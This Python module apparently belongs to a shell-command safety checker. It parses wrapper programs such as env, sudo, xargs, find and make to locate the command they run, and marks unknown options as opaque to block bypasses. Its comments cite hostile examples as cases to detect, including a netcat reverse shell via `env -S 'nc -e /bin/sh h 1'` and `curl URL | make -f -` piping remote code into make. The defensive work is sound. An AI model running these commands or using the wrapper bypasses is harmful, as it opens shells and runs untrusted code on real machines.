"""Programs that run another program given as their arguments: nice, env, sudo, xargs, find.

Each knows its own options; an option it does not know makes the command opaque, because a
wrong guess about which word is the inner program is exactly a bypass.
"""

from __future__ import annotations

import shlex

from safehold.policy.shell.programs.environment import SHOWS_ENVIRONMENT, is_dangerous_env
from safehold.policy.shell.programs.git import GIT_ARG_OPTS, GIT_FLAGS
from safehold.policy.shell.programs.options import WrapperOptions, read_options, skip_options
from safehold.policy.shell.programs.shells import STDIN_FILES, stdin_program
from safehold.policy.shell.programs.step import Step, StepFn, opaque, unknown_option
from safehold.policy.shell.programs.table import Opt, Program, read_roles
from safehold.policy.shell.programs.vocab import flags, optional, valued
from safehold.policy.shell.words import Word

__all__ = ["PROGRAMS", "STDIN_WORDS", "STEPS", "WRAPPER_ROLES", "chdir_values"]

STDIN_WORDS = Word("<stdin words>", False, True)
"""The word `xargs` appends to its command: the words it reads from its standard input."""


ENV_OPTIONS = WrapperOptions(
    with_arg=frozenset({"-u", "--unset", "-C", "--chdir"}),
    flags=frozenset({"-i", "-0", "--ignore-environment", "--null", "-v", "--debug"}),
)
SUDO_OPTIONS = WrapperOptions(
    with_arg=frozenset(
        {
            "-u",
            "-g",
            "-h",
            "-p",
            "-C",
            "-D",
            "-r",
            "-t",
            "-T",
            "-U",
            "--user",
            "--group",
            "--host",
            "--prompt",
            "--close-from",
            "--chdir",
            "--role",
            "--type",
            "--command-timeout",
            "--other-user",
        }
    ),
    flags=frozenset(
        {
            "-E",
            "-H",
            "-n",
            "-k",
            "-S",
            "-A",
            "-b",
            "-P",
            "-B",
            "-N",
            "--preserve-env",
            "--set-home",
            "--non-interactive",
            "--reset-timestamp",
            "--stdin",
            "--askpass",
            "--background",
            "--preserve-groups",
            "--bell",
        }
    ),
)
NICE_OPTIONS = WrapperOptions(with_arg=frozenset({"-n", "--adjustment"}))
TIMEOUT_OPTIONS = WrapperOptions(
    with_arg=frozenset({"-s", "--signal", "-k", "--kill-after"}),
    flags=frozenset({"--preserve-status", "--foreground", "-v", "--verbose", "-f", "-p"}),
)
TIME_OPTIONS = WrapperOptions(
    with_arg=frozenset({"-f", "--format", "-o", "--output"}),
    flags=frozenset({"-p", "-a", "-v", "--append", "--verbose", "--portability", "-q", "--quiet"}),
)
STDBUF_OPTIONS = WrapperOptions(
    with_arg=frozenset({"-i", "-o", "-e", "--input", "--output", "--error"})
)
SETSID_OPTIONS = WrapperOptions(flags=frozenset({"-c", "-f", "-w", "--ctty", "--fork", "--wait"}))
IONICE_OPTIONS = WrapperOptions(
    with_arg=frozenset({"-c", "-n", "--class", "--classdata"}), flags=frozenset({"-t", "--ignore"})
)
EXEC_OPTIONS = WrapperOptions(with_arg=frozenset({"-a"}), flags=frozenset({"-c", "-l"}))
COMMAND_OPTIONS = WrapperOptions(flags=frozenset({"-p"}))
NOHUP_OPTIONS = WrapperOptions()
# GNU findutils 4.9 xargs(1): `-I R` takes a value; `-i[R]`, `-e[E]`, `-l[N]` and their
# long names `--replace[=R]`, `--eof[=E]`, `--max-lines[=N]` take one only glued on
# (getopt's `i::`): `xargs -ix sh -c 'echo x'` replaces `x`, and `xargs --replace sh …`
# runs `sh`.
XARGS_OPTIONS = WrapperOptions(
    with_arg=frozenset(
        {
            "-I",
            "-d",
            "-a",
            "-n",
            "-L",
            "-P",
            "-s",
            "-E",
            "--delimiter",
            "--arg-file",
            "--max-args",
            "--max-procs",
            "--max-chars",
            "--process-slot-var",
        }
    ),
    flags=frozenset(
        {
            "-0",
            "-r",
            "-t",
            "-p",
            "-x",
            "-o",
            "--null",
            "--no-run-if-empty",
            "--verbose",
            "--interactive",
            "--exit",
            "--open-tty",
        }
    ),
    optional=frozenset({"-i", "-l", "-e", "--replace", "--eof", "--max-lines"}),
)
SIMPLE_WRAPPERS = {
    "nice": NICE_OPTIONS,
    "nohup": NOHUP_OPTIONS,
    "stdbuf": STDBUF_OPTIONS,
    "setsid": SETSID_OPTIONS,
    "ionice": IONICE_OPTIONS,
    "exec": EXEC_OPTIONS,
    "time": TIME_OPTIONS,
}


def _simple(name: str, words: tuple[Word, ...], stdin_fed: bool) -> Step | None:
    start = 2 if name == "nice" and len(words) > 1 and _is_nice_number(words[1]) else 1
    i, bad = skip_options(words, start, SIMPLE_WRAPPERS[name])
    if bad is not None:
        return unknown_option(name, bad)
    return Step(inner=words[i:])


def _timeout(name: str, words: tuple[Word, ...], stdin_fed: bool) -> Step | None:
    i, bad = skip_options(words, 1, TIMEOUT_OPTIONS)
    if bad is not None:
        return unknown_option(name, bad)
    return Step(inner=words[i + 1 :])


def _command(name: str, words: tuple[Word, ...], stdin_fed: bool) -> Step | None:
    if name == "command" and any(w.text in ("-v", "-V") for w in words[1:2]):
        return None  # `command -v x` only looks x up
    i, bad = skip_options(words, 1, COMMAND_OPTIONS if name == "command" else NOHUP_OPTIONS)
    return unknown_option(name, bad) if bad is not None else Step(inner=words[i:])


def _is_nice_number(word: Word) -> bool:
    t = word.text
    return word.static and t.startswith("-") and t[1:].lstrip("+-").isdigit()


def _env(name: str, words: tuple[Word, ...], stdin_fed: bool) -> Step:
    i = 1
    assigns: list[tuple[str, Word]] = []
    while i < len(words):
        i, bad = skip_options(words, i, ENV_OPTIONS)
        if bad is not None:
            if bad.startswith(("-S", "--split-string")):
                return _split_string(words, i, bad)
            return unknown_option("env", bad)
        if i < len(words) and words[i].text == "-":
            i += 1
            continue
        if i < len(words) and _is_assignment(words[i]):
            name, _, value = words[i].text.partition("=")
            assigns.append((name, Word(value, words[i].static)))
            i += 1
            continue
        break
    return Step(inner=words[i:], assignments=tuple(assigns))


def _split_string(words: tuple[Word, ...], i: int, option: str) -> Step:
    """`env -S 'nc -e /bin/sh h 1'`: the string is split into a command. Still opaque (env's
    splitting is not bash's), but the words are re-analysed so deny rules inside fire."""
    reasons = opaque("env-split-string", "env -S", "`env -S` splits a string into a command")
    if option in ("-S", "--split-string"):
        value = words[i + 1] if i + 1 < len(words) else Word("", True)
        after = i + 2
    else:
        text = option[2:] if option.startswith("-S") else option.partition("=")[2]
        value = Word(text, words[i].static)
        after = i + 1
    rest = words[after:]
    if not value.static or not all(w.static for w in rest):
        return Step(opaque=reasons)
    script = " ".join([value.text, *(shlex.quote(w.text) for w in rest)])
    return Step(script=("env -S", script), opaque=reasons)


def _is_assignment(word: Word) -> bool:
    name, eq, _ = word.text.partition("=")
    return bool(eq) and name.replace("_", "a").isalnum() and not name[0].isdigit()


def _sudo(name: str, words: tuple[Word, ...], stdin_fed: bool) -> Step:
    i, bad = skip_options(words, 1, SUDO_OPTIONS)
    if bad is not None:
        if bad in ("-i", "-s", "--login", "--shell"):
            return Step(
                opaque=opaque("hidden-command", f"{name} {bad}", f"`{name} {bad}` runs a shell")
            )
        if bad in ("-e", "--edit", "-l", "--list", "-v", "--validate", "-k", "-K"):
            return Step(inner=())
        return unknown_option(name, bad)
    assigns: list[tuple[str, Word]] = []
    while i < len(words) and _is_assignment(words[i]):
        key, _, value = words[i].text.partition("=")
        assigns.append((key, Word(value, words[i].static)))
        i += 1
    return Step(inner=words[i:], assignments=tuple(assigns))


def _xargs(name: str, words: tuple[Word, ...], stdin_fed: bool) -> Step:
    i, bad, given = read_options(words, 1, XARGS_OPTIONS)
    if bad is not None:
        return unknown_option("xargs", bad)
    replace = None
    # The options as xargs' getopt reads them (`read_options`): a cluster (`-0I {}`,
    # `-0i`), and never an option's value (`-E -i`: `-i` is the end-of-file string).
    for option, value in given:
        if option == "--process-slot-var":
            # xargs sets this variable for the program: `PATH` there changes what runs.
            var = value.text if value is not None else ""
            if value is None or not value.static or is_dangerous_env(var) or not var:
                return Step(
                    opaque=opaque(
                        "dangerous-env",
                        var or "--process-slot-var",
                        f"`xargs --process-slot-var` sets `{var}`, which can make programs "
                        "run other code",
                    )
                )
        elif option in ("-I", "-i", "--replace"):
            if value is None and option != "-I":
                replace = "{}"  # `-i`, `--replace`: the default replace-string
            elif value is None or not value.static or not value.text:
                # A computed replace-string may be in any word: each may be a stdin line.
                return Step(
                    opaque=opaque("dynamic-script", "xargs -I", "`xargs -I` gets a computed string")
                )
            else:
                replace = value.text
    inner = words[i:] or (Word("echo", True),)
    # xargs adds words read from stdin: they are unknown here.
    if replace:
        inner = tuple(Word(w.text, False, True) if replace in w.text else w for w in inner)
    else:
        inner = (*inner, STDIN_WORDS)
    return Step(inner=inner)


def _find(name: str, words: tuple[Word, ...], stdin_fed: bool) -> Step:
    nested: list[tuple[tuple[Word, ...], tuple[Word, ...]]] = []
    i = 1
    while i < len(words):
        t = words[i].text
        if words[i].static and t in ("-exec", "-execdir", "-ok", "-okdir"):
            j = i + 1
            while j < len(words) and not (words[j].static and words[j].text in (";", "+")):
                j += 1
            if j >= len(words) or j == i + 1:
                return Step(
                    opaque=opaque(
                        "unknown-wrapper-option",
                        "find",
                        f"`find {t}` has no command or no terminating `;` / `+`",
                    )
                )
            # `{}` becomes the found file names: unknown here, but never options (they
            # start with the search root), so each counts as one computed word.
            inner = tuple(
                Word(w.text, False, False) if "{}" in w.text else w for w in words[i + 1 : j]
            )
            nested.append((words[: i + 1], inner))
            i = j + 1
            continue
        i += 1
    return Step(nested=tuple(nested), keep_self=True)


def _multicall(name: str, words: tuple[Word, ...], stdin_fed: bool) -> Step | None:
    """`busybox nc …`, `toybox rm …`: the applet named by the first word is the program."""
    if len(words) > 1 and words[1].static and not words[1].text.startswith("-"):
        return Step(inner=words[1:])
    return None


def _make(name: str, words: tuple[Word, ...], stdin_fed: bool) -> Step | None:
    """`make -f -`: GNU make reads a makefile named `-` from standard input (make(1), "-f
    file": "If file is -, standard input is read"), so `curl URL | make -f -` runs what
    comes down the pipe as recipes, as a shell would. Read with make's table (`--file=-`,
    `--makef -`, `-f-`)."""
    reading = read_roles(_MAKE, words)
    for use in reading.uses:
        if use.option in _MAKEFILES and use.word.static and use.word.text in STDIN_FILES:
            return stdin_program(name, stdin_fed)
    return None


_MAKEFILES = frozenset({"-f", "--file", "--makefile"})
# Wrappers that change directory before running their command, with their option grammar
# and the options that do it (GNU coreutils 9.1 `env --help`: `-C, --chdir=DIR`; sudo(8):
# `-D, --chdir=DIR`; git(1): `-C PATH`, read by git.c's own loop: exact words, no clusters).
_GIT_GLOBAL = WrapperOptions(with_arg=GIT_ARG_OPTS, flags=GIT_FLAGS, attached=False)
_CHDIR_OPTIONS: dict[str, tuple[WrapperOptions, frozenset[str]]] = {
    "env": (ENV_OPTIONS, frozenset({"-C", "--chdir"})),
    "sudo": (SUDO_OPTIONS, frozenset({"-D", "--chdir"})),
    "git": (_GIT_GLOBAL, frozenset({"-C"})),
}


# Actions that run their command in the folder of each match (find(1), "-execdir command":
# "the specified command is run from the subdirectory containing the matched file"): where
# it runs is computed.
_RUNS_IN_MATCH_DIR: dict[str, tuple[str, ...]] = {"find": ("-execdir", "-okdir")}


def chdir_values(layer: tuple[Word, ...]) -> list[Word]:
    """The directories a wrapper layer (argv) changes to before running its inner program,
    read with the wrapper's own option grammar (`read_options`, as its step reads it): `env
    -C DIR`, `env -iC DIR`, `env -iCDIR`, `env --chdir=DIR`. A value not given (the layer
    ends) is a computed one: where the program runs is then not known."""
    if not layer:
        return []
    name = layer[0].text.rsplit("/", 1)[-1]
    if layer[-1].static and layer[-1].text in _RUNS_IN_MATCH_DIR.get(name, ()):
        return [Word("", False)]  # `find -execdir CMD`: in each match's folder, not known here
    known = _CHDIR_OPTIONS.get(name)
    if known is None:
        return []
    opts, names = known
    _end, _bad, given = read_options(layer, 1, opts)
    return [
        value if value is not None else Word("", False)
        for option, value in given
        if option in names
    ]


STEPS: dict[str, StepFn] = {
    "make": _make,
    "gmake": _make,
    "busybox": _multicall,
    "toybox": _multicall,
    **dict.fromkeys(SIMPLE_WRAPPERS, _simple),
    "timeout": _timeout,
    "command": _command,
    "builtin": _command,
    "env": _env,
    "sudo": _sudo,
    "doas": _sudo,
    "xargs": _xargs,
    "find": _find,
}


# Roles of wrappers' own options (their operands are the command they run, analysed on its
# own): `time -o FILE` writes FILE (GNU time 1.9, `time --help`).
_TIME_OUT = Opt(takes=True, role="write")
# GNU make 4.3 (`make --help`): runs the project's own recipes, as `npm test` runs its
# scripts. Left out, so that they ask: `-E`/`--eval` (a makefile statement given as text),
# `-t`/`--touch` (writes every target). `-f` and `-I` name makefiles, which are read as
# code; `-C` moves where everything runs. A `NAME=VALUE` operand overrides a variable the
# recipes run (`CC=…`, `SHELL=…`): not understood (`variable_operands`).
_MAKE = Program(
    options={
        **flags("-b", "-m", "-B", "--always-make", "-d", "-e", "--environment-overrides"),
        **flags("-h", "--help", "-i", "--ignore-errors", "-k", "--keep-going", "-L"),
        **flags("--check-symlink-times", "-n", "--just-print", "--dry-run", "--recon"),
        # `-p` prints the data base: every variable, the environment's with their values.
        **dict.fromkeys(("-p", "--print-data-base"), Opt(mode=SHOWS_ENVIRONMENT)),
        **flags("-q", "--question", "-r", "--no-builtin-rules"),
        **flags("-R", "--no-builtin-variables", "-s", "--silent", "--quiet", "--no-silent"),
        **flags("-S", "--no-keep-going", "--stop", "--trace", "-v", "--version", "-w"),
        **flags("--print-directory", "--no-print-directory", "--warn-undefined-variables"),
        **optional("--debug", "-j", "--jobs", "-l", "--load-average", "--max-load", "-O"),
        **optional("--output-sync"),
        # `-o`/`-W` FILE: make only looks at the file's time; judged as a read all the same.
        **valued("read", "-o", "--old-file", "--assume-old", "-W", "--what-if"),
        **valued("read", "--new-file", "--assume-new"),
        **valued("read", "-f", "--file", "--makefile", "-I", "--include-dir"),
        **valued("cwd", "-C", "--directory"),
    },
    variable_operands=True,
    source="GNU Make 4.3 (make --help)",
    # A prefix of these is not read as a listed option: `--e` is `--eval` or ambiguous.
    left_out=frozenset({"--eval", "--touch"}),
)

# git's own options before the subcommand (git(1), read by git.c's loop: exact words, a
# value glued with `=` or the next word). `--work-tree=DIR` is where `checkout -f`,
# `reset --hard` and `stash pop` write every tracked file: DIR is written (as `tar -x`
# writes `.`), so `--work-tree=.` run in `.git/hooks` is a write there. `-C` moves the
# program (`chdir_values`); the other values name no file of this machine's tree.
_GIT = Program(
    options={
        **{f: Opt() for f in GIT_FLAGS},
        "--work-tree": Opt(takes=True, role="write"),
        **{o: Opt(takes=True) for o in GIT_ARG_OPTS - {"--work-tree"}},
        "-c": Opt(takes=True),
    },
    options_first=True,
    stop_at=0,
    parser="exact",
    source="git 2.39 (git(1), OPTIONS)",
)

PROGRAMS: dict[str, Program] = {
    "make": _MAKE,
    "gmake": _MAKE,
    "time": Program(
        options={
            "-o": _TIME_OUT,
            "--output": _TIME_OUT,
            "-f": Opt(takes=True),
            "--format": Opt(takes=True),
            **{f: Opt() for f in TIME_OPTIONS.flags},
            "--help": Opt(),
            "-h": Opt(),
            "-V": Opt(),
            "--version": Opt(),
        },
        options_first=True,
        stop_at=0,
        source="GNU time 1.9 (time --help)",
    ),
}
# The tables a wrapper layer's own options are read with (`assess`): the programs above, and
# git's options before its subcommand (git is a program of `programs.git`, its global
# options a layer of its own).
WRAPPER_ROLES: dict[str, Program] = {**PROGRAMS, "git": _GIT}
